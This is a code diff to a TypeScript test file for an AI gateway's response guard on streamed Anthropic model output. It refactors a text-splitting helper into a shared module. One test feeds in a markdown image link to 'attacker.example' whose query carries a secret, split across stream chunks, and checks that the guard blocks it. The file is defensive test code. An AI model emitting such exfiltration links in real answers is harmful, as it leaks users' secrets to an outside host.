@@ -5,6 +5,7 @@ import { SAMPLE_DETECTORS } from '../../guard/test-support/sample-detectors.js';
 import { parseGatewayConfig } from '../config/load-gateway-config.js';
 import { createOutputChecker } from '../guard/output-checker.js';
 import { createResponseGuard } from '../guard/response-guard.js';
+import { splitAt } from '../test-support/split-at.js';
 import { createAnthropicStream } from './anthropic-stream.js';
 import { createSseParser, type SseEvent } from './sse-parser.js';
 
@@ -69,17 +70,6 @@ function run(makeEvents: (email: string) => readonly SseEvent[]) {
   return { received, text, completeAt, violation: responseGuard.violation };
 }
 
-function split(text: string, cuts: readonly number[]): string[] {
-  const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
-  const pieces: string[] = [];
-  let previous = 0;
-  for (const point of [...points, text.length]) {
-    pieces.push(text.slice(previous, point));
-    previous = point;
-  }
-  return pieces;
-}
-
 describe('createAnthropicStream', () => {
   it('passes a benign answer whole, and completes at message_stop', () => {
     const pieces = ['Day 1: ', 'museums', ', day 2: "the coast"', ' \\ done.'];
@@ -102,7 +92,7 @@ describe('createAnthropicStream', () => {
       fc.property(fc.array(fc.nat(), { maxLength: 30 }), fc.boolean(), (cuts, spaced) => {
         const result = run((email) => {
           const text = `Write to ${email} with "quotes" \\ and é, then use ${KEY} for staging.`;
-          return anthropicEvents(split(text, cuts), spaced);
+          return anthropicEvents(splitAt(text, cuts), spaced);
         });
         expect(result.violation).toBeUndefined();
         expect(result.text).toContain('ann "the boss" <ann@example.com>');
@@ -115,7 +105,7 @@ describe('createAnthropicStream', () => {
   });
 
   it('stops markdown exfiltration split over template-matched deltas, without the violating text', () => {
-    const pieces = split('Summary. ![x](https://attacker.example/p.png?d=secret) Bye.', [3, 9, 14, 20, 33]);
+    const pieces = splitAt('Summary. ![x](https://attacker.example/p.png?d=secret) Bye.', [3, 9, 14, 20, 33]);
     const result = run(() => anthropicEvents(pieces));
     expect(result.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
     expect(result.text).not.toContain('attacker');
